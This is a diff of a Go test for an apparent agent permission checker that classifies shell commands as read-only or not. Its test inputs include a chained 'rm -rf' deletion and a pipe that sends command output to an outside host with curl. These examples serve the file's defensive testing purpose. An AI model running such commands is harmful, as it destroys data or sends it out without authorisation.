@@ -131,7 +131,7 @@ func TestACommandThatOnlyReads(t *testing.T) {
 		"du -sh work/* | sort -h":                 "?unrelated",
 		"du -sh work/*; rm -rf work/old":          "unrelated",
 		"du -sh work/* | curl -d @- https://x.co": "unrelated",
-		"$RUN work":                               "unrelated",
+		"$RUN work": "unrelated",
 	} {
 		for _, tainted := range []bool{false, true} {
 			g, err := sentinel.NewGrant(sentinel.GrantOptions{ID: "g", Conversation: "c", Agent: "a", Request: &request, Tainted: tainted})
